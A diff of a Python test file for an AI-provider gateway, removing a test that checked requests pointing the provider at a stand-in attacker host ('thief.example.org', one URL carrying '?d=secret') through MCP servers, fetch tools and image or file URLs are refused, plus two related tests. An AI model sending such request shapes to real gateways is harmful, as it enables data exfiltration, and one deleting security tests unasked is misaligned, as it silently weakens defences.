@@ -111,30 +111,6 @@ async def test_the_owner_can_allow_a_path(tmp_path: Path) -> None:
         assert [received.key for received in gateway.provider.requests] == [KEY, KEY]
 
 
-@pytest.mark.parametrize(
-    "reach",
-    [
-        {"background": True},
-        {"mcp_servers": [{"type": "url", "url": "https://thief.example.org"}]},
-        {"tools": [{"type": "mcp", "server_url": "https://thief.example.org"}]},
-        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
-        {"tools": [{"urlContext": {}}]},
-        {"input": [{"content": [{"type": "input_image", "image_url": "https://thief.example.org/?d=secret"}]}]},
-        {"input": [{"content": [{"type": "image_url", "image_url": {"url": " HTTPS://thief.example.org"}}]}]},
-        {"input": [{"content": [{"type": "input_file", "file_url": "http://thief.example.org"}]}]},
-        {"input": [{"content": [{"source": {"type": "url", "url": "https://thief.example.org/x.png"}}]}]},
-        {"contents": [{"parts": [{"fileData": {"fileUri": "https://thief.example.org/x"}}]}]},
-    ],
-)
-async def test_a_request_that_makes_the_provider_call_others_is_refused(
-    reach: dict[str, object], gateway: GatewayHarness
-) -> None:
-    path, body = build_request("responses")
-    answer = await gateway.http.post(path, json=body | reach, headers=gateway.headers())
-    assert answer.status_code == 403
-    assert not gateway.provider.requests
-
-
 async def test_images_and_text_about_urls_pass(gateway: GatewayHarness) -> None:
     path, body = build_request("responses", 'SAY {"url": "https://example.org"}')
     body["tools"] = [{"type": "function", "name": "fetch", "parameters": {"properties": {"url": {"type": "string"}}}}]
@@ -143,20 +119,6 @@ async def test_images_and_text_about_urls_pass(gateway: GatewayHarness) -> None:
         {"role": "user", "content": [{"type": "input_image", "image_url": "data:image/png;base64,AAAA"}]},
     ]
     assert (await gateway.http.post(path, json=body, headers=gateway.headers())).status_code == 200
-
-
-async def test_the_owner_may_let_the_provider_fetch(tmp_path: Path) -> None:
-    async with run_gateway(tmp_path, allow=("urls",)) as gateway:
-        path, body = build_request("messages")
-        body["messages"][0]["content"] = [{"type": "image", "source": {"type": "url", "url": "https://example.org/x"}}]
-        assert (await gateway.http.post(path, json=body, headers=gateway.headers("anthropic"))).status_code == 200
-
-
-async def test_a_repeated_json_key_is_read_once(gateway: GatewayHarness) -> None:
-    """The provider reads what was checked here, not the same bytes in another way."""
-    body = b'{"model": "a", "model": "b", "messages": [], "stream": true, "stream": false}'
-    await gateway.http.post("/openai/v1/chat/completions", content=body, headers=gateway.headers())
-    assert gateway.provider.requests[-1].body == b'{"model":"b","messages":[],"stream":false}'
 
 
 @pytest.mark.parametrize("body", [b"", b"[]", b"{", b'"x"', b"\xff", b'{"messages": []}', b"[" * 100_000])
